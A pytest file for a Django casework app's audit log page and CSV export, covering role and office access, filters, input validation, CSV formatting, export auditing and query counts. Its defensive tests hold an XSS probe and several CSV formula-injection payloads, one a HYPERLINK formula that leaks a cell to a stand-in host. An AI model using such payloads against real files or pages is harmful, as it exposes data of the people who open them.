"""The audit log at /audit/ and its CSV export: coordinators read their office's events,
admins all of them, nobody else anything (a 404); filters, bad input, the export and its
own audit event, and a query count that does not grow with the log."""

from __future__ import annotations

import csv
import datetime
import io
import re
import zoneinfo
from types import SimpleNamespace

import pytest
from django.urls import reverse
from django.utils import timezone

from casework import actions
from casework.models import AuditAction, AuditEvent, Role
from tests.reading import invalid_date

UTC = datetime.UTC
WARSAW = zoneinfo.ZoneInfo("Europe/Warsaw")
ROW = re.compile(r'<tr data-event="(\d+)">')
CSV_HEADER = "time,user,case,action,ip,detail,purpose,text"


@pytest.fixture
def clock(monkeypatch):
    """Sets the time at which new audit events are written.

    log_event stamps every event with the current time; moving that clock is how the tests
    make events of other days while still writing them through the actions."""
    field = AuditEvent._meta.get_field("at")

    def set_time(when: datetime.datetime) -> None:
        monkeypatch.setattr(field, "_get_default", lambda: when)

    return set_time


def last_event() -> AuditEvent:
    return AuditEvent.objects.order_by("-pk").first()


@pytest.fixture
def world(world):
    """The named world (conftest's) and what its people did: events of both offices, of legal
    aid on vera's case shared with lev, and of nobody's office."""
    w = SimpleNamespace(**vars(world))
    w.vera_create = AuditEvent.objects.get(case=w.vera_case)
    w.viktor_create = AuditEvent.objects.get(case=w.viktor_case)
    w.tomas_create = AuditEvent.objects.get(case=w.tomas_case)
    actions.log_case_view(case=w.vera_case, by=w.olga)
    w.olga_view = last_event()
    actions.share_case(case=w.vera_case, by=w.olga, user=w.lev, include_relatives=False)
    w.olga_share = last_event()
    actions.log_case_view(case=w.vera_case, by=w.lev)
    w.lev_view = last_event()
    w.vera_login = actions.log_event(user=w.vera, action=AuditAction.LOGIN, ip="192.0.2.1")
    w.viktor_failed = actions.log_event(
        user=w.viktor, action=AuditAction.LOGIN_FAILED, ip="192.0.2.2"
    )

    actions.log_case_view(case=w.tomas_case, by=w.tomas)
    w.tomas_view = last_event()
    w.tomas_login = actions.log_event(user=w.tomas, action=AuditAction.LOGIN)

    w.unknown_failed = actions.log_event(
        user=None, action=AuditAction.LOGIN_FAILED, ip="2001:db8::1"
    )
    w.lev_login = actions.log_event(user=w.lev, action=AuditAction.LOGIN)
    w.ada_login = actions.log_event(user=w.ada, action=AuditAction.LOGIN)

    w.warsaw_events = {w.vera_create, w.viktor_create, w.olga_view, w.olga_share, w.lev_view}
    w.warsaw_events |= {w.vera_login, w.viktor_failed}
    w.vilnius_events = {w.tomas_create, w.tomas_view, w.tomas_login}
    w.nobodys_events = {w.unknown_failed, w.lev_login, w.ada_login}
    return w


def pks(events) -> set[int]:
    return {event.pk for event in events}


def logins_of(user) -> set[int]:
    """The logins of the test client itself (force_login is audited like any login)."""
    return set(
        AuditEvent.objects.filter(user=user, action=AuditAction.LOGIN).values_list("pk", flat=True)
    )


def get_page(client, **params):
    response = client.get(reverse("casework:audit_log"), params)
    assert response.status_code == 200
    return response


def listed(client, **params) -> list[int]:
    """The ids of the events the page shows for these GET parameters, in order."""
    return [int(pk) for pk in ROW.findall(get_page(client, **params).content.decode())]


def get_csv(client, **params):
    response = client.get(reverse("casework:audit_log_csv"), params)
    assert response.status_code == 200
    return response


def csv_text(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_text(response))))


def field_error(response, name: str) -> str:
    """The message crispy forms shows under the field named name, marked invalid."""
    content = response.content.decode()
    control = re.search(rf'<(?:input|select)[^>]*name="{name}"[^>]*>', content)
    assert control is not None, f"no field {name}"
    assert "is-invalid" in control.group(0), f"{name} is not marked invalid"
    errors = re.findall(rf'<p id="error_\d+_id_{name}"[^>]*>(.*?)</p>', content, re.S)
    assert errors, f"no message next to {name}"
    return " ".join(re.sub(r"<[^>]+>", "", error).strip() for error in errors)


def shown_value(response, name: str) -> str:
    content = response.content.decode()
    control = re.search(rf'<input[^>]*name="{name}"[^>]*>', content).group(0)
    value = re.search(r'value="([^"]*)"', control)
    return value.group(1) if value else ""


# Who may read it


@pytest.mark.parametrize("name", ["casework:audit_log", "casework:audit_log_csv"])
def test_anonymous_users_are_sent_to_log_in(client, db, name):
    url = reverse(name)
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


@pytest.mark.parametrize("name", ["casework:audit_log", "casework:audit_log_csv"])
@pytest.mark.parametrize("who", ["vera_volunteer", "lev_lawyer", "lena_lawyer"])
def test_volunteers_and_legal_aid_get_404(login, world, request, name, who):
    client = login(request.getfixturevalue(who))
    before = AuditEvent.objects.count()
    response = client.get(reverse(name))
    assert response.status_code == 404
    assert world.vera_case.reference not in response.content.decode()
    assert AuditEvent.objects.count() == before


def test_a_coordinator_without_an_office_gets_404(login, db):
    nowhere = actions.create_user(
        username="nora_coordinator", role=Role.COORDINATOR, office=None, password=None
    )
    client = login(nowhere)
    assert client.get(reverse("casework:audit_log")).status_code == 404
    assert client.get(reverse("casework:audit_log_csv")).status_code == 404


def test_olga_reads_her_office_events_and_her_staff_logins(login, world, olga_coordinator):
    client = login(olga_coordinator)
    shown = listed(client)
    assert set(shown) == pks(world.warsaw_events) | logins_of(olga_coordinator)
    content = get_page(client).content.decode()
    assert world.tomas_case.reference not in content
    assert "tomas_coordinator" not in content


def test_tomas_reads_only_his_office(login, world, tomas_coordinator):
    client = login(tomas_coordinator)
    assert set(listed(client)) == pks(world.vilnius_events) | logins_of(tomas_coordinator)
    content = get_page(client).content.decode()
    assert world.vera_case.reference not in content
    assert "vera_volunteer" not in content
    assert "lev_lawyer" not in content


def test_ada_reads_every_event(login, world, ada_admin):
    client = login(ada_admin)
    events = world.warsaw_events | world.vilnius_events | world.nobodys_events
    everything = pks(events) | logins_of(ada_admin)
    assert set(listed(client)) == everything
    assert set(listed(client)) == set(AuditEvent.objects.values_list("pk", flat=True))


def test_events_are_listed_newest_first(login, world, olga_coordinator):
    shown = listed(login(olga_coordinator))
    times = {event.pk: event.at for event in AuditEvent.objects.filter(pk__in=shown)}
    assert shown == sorted(shown, key=lambda pk: (times[pk], pk), reverse=True)


def test_coordinators_get_links_to_cases_admins_only_references(
    login, world, olga_coordinator, ada_admin
):
    link = f'<a href="{world.vera_case.get_absolute_url()}">{world.vera_case.reference}</a>'
    assert link in get_page(login(olga_coordinator)).content.decode()
    content = get_page(login(ada_admin)).content.decode()
    assert world.vera_case.reference in content
    assert world.vera_case.get_absolute_url() not in content
    assert world.vera_case.person.full_name not in content


def test_a_row_shows_time_user_case_action_ip_and_detail(
    login, clock, olga_coordinator, vera_volunteer, make_case
):
    case = make_case(vera_volunteer)
    clock(datetime.datetime(2026, 11, 22, 14, 3, 27, tzinfo=UTC))
    actions.log_event(
        user=vera_volunteer,
        case=case,
        action=AuditAction.PRINT,
        detail="sections: notes",
        ip="192.0.2.7",
    )
    content = get_page(login(olga_coordinator), action="print").content.decode()
    row = content[content.index("<tbody>") : content.index("</tbody>")]
    # In the zone of olga's office, named in full.
    for text in ["22 November 2026, 15:03 CET", str(vera_volunteer), case.reference, "Print"]:
        assert text in row
    assert "192.0.2.7" in row
    assert "sections: notes" in row
    assert "1 event matches." in content


def test_the_nav_links_to_the_audit_log_for_coordinators_and_admins(
    login, olga_coordinator, ada_admin, vera_volunteer
):
    url = reverse("casework:audit_log")
    assert f'href="{url}"' in get_page(login(olga_coordinator)).content.decode()
    assert f'href="{url}"' in get_page(login(ada_admin)).content.decode()
    dashboard = login(vera_volunteer).get(reverse("casework:dashboard")).content.decode()
    assert f'href="{url}"' not in dashboard


def test_the_page_edits_nothing(login, world, olga_coordinator):
    client = login(olga_coordinator)
    before = list(AuditEvent.objects.order_by("pk").values())
    content = get_page(client).content.decode()
    # The only forms that post are the navigation bar's log-out and language menu, and the
    # session warning's "Stay signed in".
    assert content.count('method="post"') == 3
    assert content.count(f'action="{reverse("casework:session_extend")}"') == 1
    assert content.count(f'action="{reverse("logout")}"') == 1
    assert content.count(f'action="{reverse("casework:set_language")}"') == 1
    assert "delete" not in content.lower()
    assert client.post(reverse("casework:audit_log")).status_code == 405
    assert client.post(reverse("casework:audit_log_csv")).status_code == 405
    assert list(AuditEvent.objects.order_by("pk").values()) == before


# Filters


def test_filter_by_user(login, world, olga_coordinator, lev_lawyer):
    assert listed(login(olga_coordinator), user=lev_lawyer.pk) == [world.lev_view.pk]


def test_the_user_choices_are_the_people_in_the_readers_events(
    login, world, olga_coordinator, vera_volunteer, lev_lawyer, tomas_coordinator, lena_lawyer
):
    content = get_page(login(olga_coordinator)).content.decode()
    select = re.search(r'<select name="user".*?</select>', content, re.S).group(0)
    assert re.findall(r"\(([a-z_]+)\)</option>", select) == [
        "lev_lawyer",
        "olga_coordinator",
        "vera_volunteer",
        "viktor_volunteer",
    ]


def test_filter_by_case_reference_ignores_letter_case(login, world, olga_coordinator):
    shown = listed(login(olga_coordinator), case=world.vera_case.reference.lower())
    assert set(shown) == pks({world.vera_create, world.olga_view, world.olga_share, world.lev_view})


def test_another_offices_reference_finds_nothing(login, world, olga_coordinator):
    response = get_page(login(olga_coordinator), case=world.tomas_case.reference)
    assert ROW.findall(response.content.decode()) == []
    assert "No events match these filters." in response.content.decode()


def test_filter_by_action(login, world, olga_coordinator):
    shown = listed(login(olga_coordinator), action="view")
    assert shown == [world.lev_view.pk, world.olga_view.pk]
    assert listed(login(olga_coordinator), action="login_failed") == [world.viktor_failed.pk]


@pytest.fixture
def three_days(clock, vera_volunteer, make_case):
    """A view on the 1st at 10:00, on the 2nd at the last second, on the 3rd at midnight, in
    Warsaw: the days of the filters are those of the zone the page shows (the reader's office)."""
    case = make_case(vera_volunteer)
    events = []
    for when in [
        datetime.datetime(2026, 3, 1, 10, 0, tzinfo=WARSAW),
        datetime.datetime(2026, 3, 2, 23, 59, 59, 999999, tzinfo=WARSAW),
        datetime.datetime(2026, 3, 3, 0, 0, tzinfo=WARSAW),
    ]:
        clock(when)
        actions.log_case_view(case=case, by=vera_volunteer)
        events.append(last_event())
    return events


def test_filter_by_dates_is_inclusive(login, olga_coordinator, three_days):
    first, second, third = (event.pk for event in three_days)
    client = login(olga_coordinator)
    assert listed(client, date_from="2026-03-02", date_to="2026-03-02") == [second]
    assert listed(client, date_from="2026-03-01", date_to="2026-03-02") == [second, first]
    assert listed(client, action="view", date_from="2026-03-02") == [third, second]
    assert listed(client, action="view", date_to="2026-03-01") == [first]


def test_filters_combine(login, world, olga_coordinator, lev_lawyer, vera_volunteer, clock):
    client = login(olga_coordinator)
    clock(datetime.datetime(2026, 5, 4, 12, 0, tzinfo=UTC))
    actions.log_case_view(case=world.vera_case, by=lev_lawyer)
    old_view = last_event()
    actions.log_event(user=lev_lawyer, case=world.vera_case, action=AuditAction.EDIT)
    assert listed(
        client,
        user=lev_lawyer.pk,
        case=world.vera_case.reference,
        action="view",
        date_from="2026-05-04",
        date_to="2026-05-04",
    ) == [old_view.pk]
    assert listed(client, user=vera_volunteer.pk, action="view") == []
    assert listed(client, user=lev_lawyer.pk, action="view") == [world.lev_view.pk, old_view.pk]


def test_pages_of_fifty_keep_the_filters(login, olga_coordinator, vera_volunteer, make_case):
    case = make_case(vera_volunteer)
    for _ in range(60):
        actions.log_case_view(case=case, by=vera_volunteer)
    client = login(olga_coordinator)
    response = get_page(client, action="view")
    content = response.content.decode()
    assert len(ROW.findall(content)) == 50
    assert "60 events match." in content
    assert "?action=view&amp;page=2" in content
    assert f'href="{reverse("casework:audit_log_csv")}?action=view"' in content
    assert len(listed(client, action="view", page=2)) == 10
    # A page number past the end or not a number shows a page, not an error.
    assert len(listed(client, action="view", page=99)) == 10
    assert len(listed(client, action="view", page="x")) == 50


# Bad input: a message next to the field, what was typed kept, a 200 and never a 500


def test_an_end_date_before_the_start_date(login, world, olga_coordinator):
    response = get_page(login(olga_coordinator), date_from="2026-03-05", date_to="2026-03-01")
    assert "choose a date on or after it" in field_error(response, "date_to")
    assert shown_value(response, "date_from") == "2026-03-05"
    assert shown_value(response, "date_to") == "2026-03-01"
    assert ROW.findall(response.content.decode()) == []
    assert "Correct the filters marked above" in response.content.decode()
    assert "Download CSV" not in response.content.decode()


def test_a_date_that_does_not_exist(login, world, olga_coordinator):
    response = get_page(login(olga_coordinator), date_from="2026-02-30", case="pl-2026-0001")
    assert field_error(response, "date_from") == invalid_date()
    assert shown_value(response, "date_from") == "2026-02-30"
    assert shown_value(response, "case") == "pl-2026-0001"


def test_the_last_day_there_is(login, world, olga_coordinator):
    response = get_page(login(olga_coordinator), date_from="0001-01-01", date_to="9999-12-31")
    assert set(ROW.findall(response.content.decode()))


def test_an_unknown_action(login, world, olga_coordinator):
    response = get_page(login(olga_coordinator), action="erase", case="PL-2026-0001")
    assert "erase is not one of the available choices" in field_error(response, "action")
    assert shown_value(response, "case") == "PL-2026-0001"


def test_a_user_outside_the_readers_events(login, world, olga_coordinator, tomas_coordinator):
    response = get_page(login(olga_coordinator), user=tomas_coordinator.pk)
    assert "Select a valid choice" in field_error(response, "user")
    assert "tomas_coordinator" not in response.content.decode()


def test_a_reference_of_2000_characters(login, world, olga_coordinator):
    typed = "PL-" + "7" * 1997
    response = get_page(login(olga_coordinator), case=typed)
    assert field_error(response, "case") == "Enter a whole case reference, such as PL-2026-0007."
    assert shown_value(response, "case") == typed


def test_a_reference_with_markup_is_shown_escaped(login, world, olga_coordinator):
    typed = "<script>alert(1)</script>"
    response = get_page(login(olga_coordinator), case=typed)
    content = response.content.decode()
    assert field_error(response, "case") == "Enter a whole case reference, such as PL-2026-0007."
    assert typed not in content
    assert shown_value(response, "case") == "&lt;script&gt;alert(1)&lt;/script&gt;"


def test_the_csv_of_bad_filters_exports_nothing(login, world, olga_coordinator):
    client = login(olga_coordinator)
    before = AuditEvent.objects.count()
    response = client.get(reverse("casework:audit_log_csv"), {"action": "erase"})
    assert response.status_code == 400
    assert "erase is not one of the available choices" in field_error(response, "action")
    assert AuditEvent.objects.count() == before


# The CSV export


def test_the_csv_holds_exactly_the_filtered_rows(login, world, olga_coordinator, lev_lawyer):
    client = login(olga_coordinator)
    response = get_csv(client, action="view")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = csv_text(response)
    assert text.splitlines()[0] == CSV_HEADER
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [
        {
            "time": world.lev_view.at.astimezone(UTC).isoformat(timespec="seconds"),
            "user": "lev_lawyer",
            "case": world.vera_case.reference,
            "action": "view",
            "ip": "",
            "detail": "",
            "purpose": "",
            "text": "Case viewed",
        },
        {
            "time": world.olga_view.at.astimezone(UTC).isoformat(timespec="seconds"),
            "user": "olga_coordinator",
            "case": world.vera_case.reference,
            "action": "view",
            "ip": "",
            "detail": "",
            "purpose": "",
            "text": "Case viewed",
        },
    ]


def test_the_csv_has_the_same_scope_as_the_page(login, world, tomas_coordinator, ada_admin):
    rows = csv_rows(get_csv(login(tomas_coordinator)))
    assert {row["case"] for row in rows} == {"", world.tomas_case.reference}
    assert "vera_volunteer" not in {row["user"] for row in rows}
    client = login(ada_admin)
    everything = AuditEvent.objects.count()
    assert len(csv_rows(get_csv(client))) == everything
    assert {"", "2001:db8::1"} <= {row["ip"] for row in csv_rows(get_csv(client))}


def test_the_csv_is_an_attachment_named_by_date(login, world, olga_coordinator):
    response = get_csv(login(olga_coordinator))
    today = timezone.now().date().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="audit-log-{today}.csv"'


def test_the_csv_times_are_iso_8601_utc(login, clock, olga_coordinator, vera_volunteer):
    clock(datetime.datetime(2026, 11, 22, 14, 3, 27, tzinfo=UTC))
    actions.log_event(user=vera_volunteer, action=AuditAction.LOGOUT)
    rows = csv_rows(get_csv(login(olga_coordinator), action="logout"))
    assert [row["time"] for row in rows] == ["2026-11-22T14:03:27+00:00"]


def test_csv_cells_cannot_run_as_formulas(login, olga_coordinator, vera_volunteer, make_case):
    case = make_case(vera_volunteer)
    details = [
        '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "a - b = c",
    ]
    for detail in details:
        actions.log_event(user=vera_volunteer, case=case, action=AuditAction.EDIT, detail=detail)
    rows = csv_rows(get_csv(login(olga_coordinator), action="edit", case=case.reference))
    assert [row["detail"] for row in reversed(rows)] == [
        "'" + detail for detail in details[:-1]
    ] + ["a - b = c"]


def test_exporting_writes_one_export_event(login, world, olga_coordinator):
    client = login(olga_coordinator)
    before = last_event().pk
    rows = csv_rows(get_csv(client, action="view"))
    written = list(AuditEvent.objects.filter(pk__gt=before))
    assert len(written) == 1
    export = written[0]
    assert export.action == AuditAction.EXPORT
    assert export.user == olga_coordinator
    assert export.case is None
    assert export.detail == f"audit log csv: {len(rows)} rows" == "audit log csv: 2 rows"
    assert export.ip == "127.0.0.1"


def test_an_export_is_not_in_its_own_file_but_in_the_next(login, world, olga_coordinator):
    client = login(olga_coordinator)
    first = csv_rows(get_csv(client, action="export"))
    assert first == []
    second = csv_rows(get_csv(client, action="export"))
    assert [row["detail"] for row in second] == ["audit log csv: 0 rows"]
    assert [row["action"] for row in csv_rows(get_csv(client))].count("export") == 2


# Queries


@pytest.mark.parametrize("size", [3, 60])
def test_queries_do_not_grow_with_the_log(
    login,
    olga_coordinator,
    vera_volunteer,
    lev_lawyer,
    make_case,
    django_assert_max_num_queries,
    size,
):
    case = make_case(vera_volunteer)
    actions.share_case(case=case, by=olga_coordinator, user=lev_lawyer, include_relatives=False)
    for i in range(size):
        actions.log_case_view(case=case, by=[vera_volunteer, lev_lawyer, olga_coordinator][i % 3])
        actions.log_event(user=vera_volunteer, action=AuditAction.LOGIN)
    client = login(olga_coordinator)
    # Session and user, the user choices, count, page, which cases may be linked, the office
    # (its time zone, and in the navigation bar), and the session saved again (three).
    with django_assert_max_num_queries(10):
        response = client.get(reverse("casework:audit_log"))
    assert f"{2 * size + 3} events match." in response.content.decode()
    with django_assert_max_num_queries(11):  # and the chosen user, checked
        response = client.get(reverse("casework:audit_log"), {"user": lev_lawyer.pk, "page": 2})
    assert response.status_code == 200
    # Session and user, the office (its time zone), count, the export's event, the session
    # saved, the rows.
    with django_assert_max_num_queries(9):
        rows = csv_rows(client.get(reverse("casework:audit_log_csv")))
    assert len(rows) == 2 * size + 3
